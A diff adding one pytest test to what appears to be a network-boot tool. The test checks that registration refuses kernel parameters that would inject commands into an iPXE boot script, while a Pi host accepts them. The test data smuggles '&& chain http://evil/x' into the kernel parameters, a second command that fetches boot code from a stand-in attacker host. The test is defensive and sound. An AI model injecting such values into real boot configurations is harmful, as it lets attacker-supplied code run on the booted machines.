@@ -257,6 +257,18 @@ def test_register_refuses_a_path_outside_the_store(nb, tmp_path):
     assert served(nb) == (2, "follow")
 
 
+def test_register_refuses_what_the_hosts_boot_loader_would_change(nb, demo_layout):
+    """The iPXE host's boot.ipxe cannot carry '&&': register says so and adds nothing; the Pi
+    (its cmdline.txt carries anything printable) takes the same toplevel."""
+    top = make_toplevel(demo_layout.store, "pc", "amp", kernel_size=64, initrd_size=64,
+                        kernel_params=("quiet", "&&", "chain", "http://evil/x"))
+    before = nb.query("generations", "pc", "--json")["generations"]
+    line = one_error_line(nb("register", "pc", str(top)), 1)
+    assert "iPXE" in line and "'&&'" in line
+    assert nb.query("generations", "pc", "--json")["generations"] == before
+    assert "generation 3" in ok(nb("register", PI, str(top)))
+
+
 # -- errors -----------------------------------------------------------------------------------
 
 
